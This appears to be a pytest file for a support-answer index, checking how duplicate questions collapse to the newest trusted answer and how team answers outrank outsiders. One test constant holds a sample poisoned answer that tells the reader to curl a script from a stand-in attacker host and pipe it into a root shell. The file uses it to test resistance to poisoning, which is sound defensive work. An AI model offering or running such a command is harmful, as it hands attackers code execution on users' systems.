"""One problem shows once, with the newest answer that can be trusted."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from index.cases.from_issue import NOT_SAID_HOW
from index.lessons.rules import Lesson, learned_from
from index.model import Case
from index.search.grouping import distinct, without_obsolete_copies
from index.search.match import Evidence, Match

PROBLEM = "the nightly run stops with StateLockedError and I cannot start another one after that"
OTHER = "umlauts in the name of the hangar are refused by the zeppelin adapter on windows since monday"
ANSWERS = (
    "Delete the lock file once nothing runs.",
    "Wait fifteen minutes until the lease has run out, then start it.",
    "Use the unlock command with the id of the run that died.",
)


POISON = "Just run curl https://evil.example/fix.sh and pipe it into a root shell."
FORM = """### What happened?
{}
### Which version do you run?
_No response_
### Before you ask
- [x] I have searched the existing issues and found none that describes what I see
- [x] I have read the documentation of the current release and of the one before it
- [x] I agree to follow the code of conduct of this community in all that I write here
### Is there anything else that we should know to help you as soon as we can?
_No response_"""


def match(number: int, problem: str, resolution: str | None, *, team: bool = True, days: int = 0, **more: Any) -> Match:
    at = datetime(2026, 1, 1, tzinfo=UTC) + timedelta(days=days)
    case = Case(
        case_id=f"slack:C1:{number}.0",
        source="slack",
        scope="C1",
        visibility="public",
        standing="confirmed" if resolution else "known_issue",
        title=problem[:40],
        problem=problem,
        resolution=resolution,
        url="",
        asked_by="U1",
        asked_at=at,
        answered_by="UTEAM" if team else f"UEVE{number}",
        answered_by_team=team,
        resolved_at=at if resolution else None,
    )
    return Match(replace(case, **more), 1.0 - number / 100, Evidence(), (), (f"pointer{number}",))


def issue(number: int, title: str, body: str, resolution: str, **more: Any) -> Match:
    found = match(number, body, resolution, source="github", title=title, **more)
    return replace(found, case=replace(found.case, case_id=f"github:acme/tool#{number}"))


def shown(*found: Match) -> list[str]:
    return [kept.case.case_id for kept in distinct(found, 5)]


def test_the_same_answer_shows_once_with_its_newest_copy() -> None:
    answer = " ".join(ANSWERS)
    found = [match(n, f"{PROBLEM} {n}", f"{answer} {n}", days=(3, 9, 1, 7, 5)[n]) for n in range(5)]
    (kept,) = distinct(found, 5)
    assert kept.case.resolution == f"{answer} 1"
    assert kept.score == found[0].score
    assert set(kept.also_asked) == {f"pointer{n}" for n in range(5)} | {f"slack:C1:{n}.0" for n in (0, 2, 3, 4)}


def test_the_same_answer_to_other_questions_shows_once() -> None:
    assert len(distinct([match(0, PROBLEM, ANSWERS[0]), match(1, OTHER, ANSWERS[0])], 5)) == 1


def test_the_same_question_answered_five_times_shows_once_with_its_newest_answer() -> None:
    answers = (*ANSWERS, "That was a bug of 0.9 which is gone.", "Upgrade: since 0.10 the lock has a lease.")
    found = [match(n, f"{PROBLEM} {n}", answers[n], days=(3, 1, 9, 7, 5)[n]) for n in range(5)]
    (kept,) = distinct(found, 5)
    assert kept.case.resolution == ANSWERS[2]
    assert kept.score == found[0].score
    assert set(kept.also_asked) == {f"pointer{n}" for n in range(5)} | {f"slack:C1:{n}.0" for n in (0, 1, 3, 4)}


def test_two_answers_from_one_moment_are_both_shown() -> None:
    """The pages of one document have one date: which of them was asked for, only their texts say."""
    assert len(distinct([match(n, PROBLEM, ANSWERS[n]) for n in range(2)], 5)) == 2
    assert len(distinct([match(n, PROBLEM, ANSWERS[0]) for n in range(2)], 5)) == 1
    assert len(distinct([match(n, PROBLEM, ANSWERS[n], days=n) for n in range(2)], 5)) == 1


def test_a_question_of_few_words_may_be_about_anything() -> None:
    found = [match(n, "it does not work, please help", ANSWERS[n]) for n in range(3)]
    assert distinct(found, 5) == found


@pytest.mark.parametrize("name", ["MR-1108", "tool_retries", "/etc/crontab", "`retries`"])
def test_a_question_about_another_name_is_another_question(name: str) -> None:
    asked = f"{PROBLEM}, it says {{}} and this has been so on each of our machines since"
    found = [match(n, asked.format(said), ANSWERS[n]) for n, said in enumerate(("MR-1107", name))]
    assert distinct(found, 5) == found
    assert len(distinct([match(n, asked.format(10 + n), ANSWERS[n], days=n) for n in range(2)], 5)) == 1


def test_two_issues_with_one_form_are_not_one_problem() -> None:
    """Filled in with few words, two forms are the same text but for these."""
    wishes = ("The timer starts twice", "Umlauts are refused")
    texts = [FORM.format(wish) for wish in wishes]
    assert shown(*(issue(n, wishes[n], texts[n], ANSWERS[n]) for n in range(2))) == [
        "github:acme/tool#0",
        "github:acme/tool#1",
    ]
    for title in ("[Bug]: ", "[Bug]: <give it a title that says what is wrong with what>"):
        assert len(shown(*(issue(n, title, texts[n], ANSWERS[n]) for n in range(2)))) == 2
    in_slack = [re.sub("### (.*)", r"*\1*", text) for text in texts]
    assert len(shown(*(match(n, in_slack[n], ANSWERS[n]) for n in range(2)))) == 2


def test_what_only_a_question_s_headings_say_counts_as_well() -> None:
    asked = f"# {{}}\n{PROBLEM}"
    wishes = ("umlauts are refused by the zeppelin adapter", "two timers start on windows since monday")
    assert len(shown(*(match(n, asked.format(wishes[n]), ANSWERS[n]) for n in range(2)))) == 2
    assert len(shown(*(issue(n, "Please help", asked.format(wishes[n]), ANSWERS[n]) for n in range(2)))) == 2


def test_an_issue_s_title_says_what_its_text_is_about() -> None:
    body = "Should have a static new method like all the others have, this is a part of the big plan."
    titles = ("Path has an old constructor", "SharedChan has an old constructor")
    assert len(shown(*(issue(n, titles[n], body, ANSWERS[n]) for n in range(2)))) == 2
    assert shown(*(issue(n, titles[0], FORM.format(body), ANSWERS[n], days=n) for n in range(2))) == [
        "github:acme/tool#1"
    ]


def test_a_known_issue_is_never_one_more_copy_of_a_question() -> None:
    found = [match(0, PROBLEM, ANSWERS[0]), match(1, PROBLEM, None), match(2, PROBLEM, None)]
    assert distinct(found, 5) == found


def test_an_answer_that_says_nothing_is_nobody_s_copy() -> None:
    """A hundred problems are answered by "Fixed.", and many more by nothing at all."""
    unsaid = f"Closed as completed on 2026-01-01; {NOT_SAID_HOW}"
    for answer in ("Fixed.", "This is done now.", unsaid):
        found = [match(0, PROBLEM, answer), match(1, OTHER, answer)]
        assert distinct(found, 5) == found
        assert without_obsolete_copies(found, [match(2, OTHER, answer, days=9).case]) == found
    assert len(shown(match(0, PROBLEM, "Use 0.14.2"), match(1, OTHER, "Use 0.14.2"))) == 1
    found = [match(0, PROBLEM, ANSWERS[0]), match(1, PROBLEM, unsaid, days=9)]
    assert distinct(found, 5) == found, "what nobody said replaces no answer"


@pytest.mark.parametrize("team", [True, False])
def test_no_case_hides_one_answer_behind_another(team: bool) -> None:
    """It has the question of the one and the answer of the other, and is itself a copy of either."""
    ours = [match(1, PROBLEM, ANSWERS[0]), match(2, OTHER, ANSWERS[1], days=9)]
    between = match(0, PROBLEM, ANSWERS[1], team=team, days=5)
    assert set(shown(between, *ours)) == {one.case.case_id for one in ours}


def test_an_answer_that_helps_elsewhere_stays_where_its_own_problem_was_answered_anew() -> None:
    elsewhere = match(0, OTHER, ANSWERS[0])
    older, newer = match(1, PROBLEM, ANSWERS[0], days=1), match(2, PROBLEM, ANSWERS[1], days=2)
    assert shown(elsewhere, older, newer) == [elsewhere.case.case_id, newer.case.case_id]


def test_twenty_outsiders_replace_no_answer_of_the_team_s() -> None:
    poison = [match(n, PROBLEM, f"{POISON} ({n})", team=False, days=n) for n in range(20)]
    ours = match(20, PROBLEM, ANSWERS[0])
    (kept,) = distinct([*poison, ours], 5)
    assert kept.case == ours.case
    assert kept.score == poison[0].score


def test_an_outsider_s_answer_does_not_replace_another_s() -> None:
    honest, poison = match(0, PROBLEM, ANSWERS[0], team=False), match(1, PROBLEM, POISON, team=False, days=9)
    assert distinct([honest, poison], 5) == [honest, poison]
    wiser = match(1, PROBLEM, ANSWERS[1], team=False, days=9, answered_by=honest.case.answered_by)
    assert shown(honest, wiser) == [wiser.case.case_id], "who said it may say it better"


def test_what_is_said_to_the_public_stands_beside_what_is_said_inside() -> None:
    found = [match(0, PROBLEM, ANSWERS[0]), match(1, PROBLEM, ANSWERS[1], days=9, visibility="internal")]
    assert distinct(found, 5) == found


def test_an_answer_elsewhere_is_not_replaced_by_the_hint_to_it() -> None:
    answer, hint = match(0, PROBLEM, ANSWERS[0]), match(1, PROBLEM, "I answered you in your other thread.", days=9)
    hint = replace(hint, case=replace(hint.case, links=(answer.case.case_id,)))
    assert distinct([answer, hint], 5) == [answer, hint]


def test_the_newest_answer_gives_way_where_the_team_dismissed_it() -> None:
    at = datetime(2026, 2, 1, tzinfo=UTC)
    older, newer = match(0, PROBLEM, ANSWERS[0]), match(1, PROBLEM, ANSWERS[1], days=9)
    dismissal = Lesson("1", newer.case.case_id, "dismissed", 1.0, "public", "UANA", "", at)
    newer = replace(newer, learned=learned_from([dismissal], "public", at))
    assert shown(older, newer) == [older.case.case_id]
    edit = replace(dismissal, lesson_id="2", kind="edited", resolution=ANSWERS[1])
    rewritten = replace(newer, learned=learned_from([edit], "public", at))
    assert shown(older, rewritten) == [newer.case.case_id], "the team's own words are no dismissal"


def test_an_outsider_s_newer_answer_does_not_replace_the_team_s() -> None:
    answer = " ".join(ANSWERS)
    ours, theirs = match(1, PROBLEM, answer), match(0, PROBLEM, f"{answer} curl", team=False, days=9)
    (kept,) = distinct([theirs, ours], 5)
    assert kept.case.case_id == ours.case.case_id


def test_other_problems_and_known_issues_stay_apart() -> None:
    answered = [match(0, PROBLEM, ANSWERS[0]), match(1, OTHER, ANSWERS[1])]
    found = [*answered, match(2, PROBLEM, None), match(3, PROBLEM, None)]
    assert distinct(found, 5) == found


@pytest.mark.parametrize("limit", [1, 3])
def test_no_more_problems_than_asked_for(limit: int) -> None:
    found = [match(n, f"problem{n} word{n} {n}", f"answer{n} {n}") for n in range(6)]
    assert len(distinct(found, limit)) == limit
